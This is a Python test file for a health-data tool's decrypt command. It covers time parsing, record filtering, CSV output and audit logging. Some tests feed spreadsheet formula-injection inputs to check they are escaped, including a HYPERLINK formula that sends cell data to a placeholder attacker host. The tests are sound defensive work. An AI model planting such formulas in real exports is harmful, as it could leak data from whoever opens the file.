"""`vitalstream decrypt` without a broker: requests, CSV layout, audit log."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from streams.alerting.errors import DecryptRequestError
from streams.audit import AuditLog, append_audit
from streams.decrypt import DecryptOutcome, DecryptRequest, _csv, parse_time
from vitalstream.config import Settings
from vitalstream.errors import ConfigError


def test_parse_time_needs_a_zone_and_iso() -> None:
    assert parse_time("2021-07-19T19:00:00Z", "--since") == datetime(
        2021, 7, 19, 19, tzinfo=UTC
    )
    assert parse_time("2021-07-19T21:00:00+02:00", "--since").hour == 19
    with pytest.raises(DecryptRequestError, match=r"--until.*no time zone"):
        parse_time("2021-07-19T19:00:00", "--until")
    with pytest.raises(DecryptRequestError, match=r"--since.*ISO-8601"):
        parse_time("last tuesday", "--since")


def test_request_filters_on_subject_and_half_open_range() -> None:
    request = DecryptRequest(
        since=parse_time("2021-07-19T19:00:00Z", "--since"),
        until=parse_time("2021-07-19T20:00:00Z", "--until"),
        subject="sbj_a",
    )
    assert request.wants("sbj_a", "2021-07-19T19:00:00Z")
    assert request.wants("sbj_a", "2021-07-19T19:59:59Z")
    assert not request.wants("sbj_a", "2021-07-19T20:00:00Z")
    assert not request.wants("sbj_a", "2021-07-19T18:59:59Z")
    assert not request.wants("sbj_b", "2021-07-19T19:30:00Z")
    assert not request.wants("sbj_a", None)
    assert DecryptRequest().wants("anyone", None)


def test_request_refuses_an_empty_range() -> None:
    moment = parse_time("2021-07-19T19:00:00Z", "--since")
    with pytest.raises(DecryptRequestError, match="before"):
        DecryptRequest(since=moment, until=moment)


def test_csv_puts_values_beside_bands_and_tokens() -> None:
    rows = [
        {
            "partition": 0,
            "offset": 7,
            "subject": "sbj_a",
            "channel": "chn_1",
            "entry_id": 52,
            "observed_at": "2021-07-19T19:08:07Z",
            "clear": {"temperature_site": "skin", "ingested_at": "x"},
            "bands": {"body_temp": "30-34"},
            "sealed": {"body_temp": "vs1.k.token", "spo2": None},
            "values": {"body_temp": 31.8125, "spo2": None},
            "error": None,
        },
        {"partition": 1, "offset": 3, "error": "not an anonymised record: x"},
    ]
    table = list(csv.DictReader(io.StringIO(_csv(rows))))
    assert table[0]["body_temp"] == "31.8125"
    assert table[0]["body_temp.band"] == "30-34"
    assert table[0]["body_temp.sealed"] == "vs1.k.token"
    assert table[0]["spo2"] == ""
    assert table[0]["clear.temperature_site"] == "skin"
    assert table[1]["error"].startswith("not an anonymised record")


def test_csv_quotes_text_a_spreadsheet_would_run_but_not_numbers() -> None:
    rows = [
        {
            "partition": 0,
            "offset": 1,
            "clear": {"device_note": '=HYPERLINK("http://x")', "room": "@A1"},
            "values": {"body_temp": -127.0},
            "error": "-bad",
        }
    ]
    table = list(csv.DictReader(io.StringIO(_csv(rows))))
    assert table[0]["clear.device_note"] == '\'=HYPERLINK("http://x")'
    assert table[0]["clear.room"] == "'@A1"
    assert table[0]["error"] == "'-bad"
    assert table[0]["body_temp"] == "-127.0"


def test_audit_appends_one_line_per_call(tmp_path: Path) -> None:
    settings = Settings(alerting={"audit_log": tmp_path / "a" / "audit.log"})
    request = DecryptRequest(subject="sbj_a", format="json")
    append_audit(settings, request, DecryptOutcome(records=3, unseal_failures=0), None)
    append_audit(settings, request, None, "AlertingError: no topic")

    lines = [
        json.loads(x) for x in settings.alerting.audit_log.read_text().splitlines()
    ]
    assert [line["records"] for line in lines] == [3, None]
    assert lines[0]["outcome"] == "ok"
    assert lines[1]["outcome"] == "failed: AlertingError: no topic"
    assert all(line["operator"] for line in lines)
    assert settings.alerting.audit_log.stat().st_mode & 0o077 == 0


def test_an_audit_log_that_cannot_be_opened_names_the_setting() -> None:
    settings = Settings(alerting={"audit_log": "/proc/audit.log"})
    with pytest.raises(ConfigError) as raised:
        AuditLog(settings)
    assert raised.value.setting == "alerting.audit_log"
    assert raised.value.found == "/proc/audit.log"
    assert "nothing was decrypted" in str(raised.value)


FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


def header_of(rows: list[dict[str, object]]) -> list[str]:
    return next(csv.reader(io.StringIO(_csv(rows))))


def test_a_metric_named_like_a_formula_is_no_formula_in_the_header() -> None:
    rows = [
        {
            "partition": 0,
            "offset": 1,
            "values": {FORMULA: 1.0, "@SUM(A1)": 2.0},
            "bands": {FORMULA: "0-9"},
            "sealed": {FORMULA: "vs1.k.t"},
            "clear": {"+cmd": "x"},
            "error": None,
        }
    ]
    header = header_of(rows)
    assert not [cell for cell in header if cell[:1] in ("=", "+", "-", "@")]
    table = list(csv.DictReader(io.StringIO(_csv(rows))))
    shown = '"=HYPERLINK(\\"http://evil.example/\\"&A1)"'  # as a JSON string
    assert table[0][shown] == "1.0"
    assert table[0][f"{shown}.band"] == "0-9"
    assert table[0]['"@SUM(A1)"'] == "2.0"
    assert table[0]['clear."+cmd"'] == "x"


def test_an_empty_or_clashing_metric_name_gets_a_column_of_its_own() -> None:
    rows = [
        {
            "partition": 0,
            "offset": 1,
            "subject": "sbj_a",
            "values": {"": 5.0, "subject": 6.0, "spo2": 97.0, "spo2.band": 7.0},
            "bands": {"spo2": "96-100"},
            "clear": {"": "c"},
            "error": None,
        }
    ]
    header = header_of(rows)
    assert "" not in header
    assert len(header) == len(set(header))
    (row,) = csv.DictReader(io.StringIO(_csv(rows)))
    assert row['""'] == "5.0"
    assert row["subject"] == "sbj_a"  # the fixed column keeps its value
    assert row['"subject"'] == "6.0"
    assert row["spo2.band"] == "96-100"
    assert row['"spo2.band"'] == "7.0"
    assert row['clear.""'] == "c"
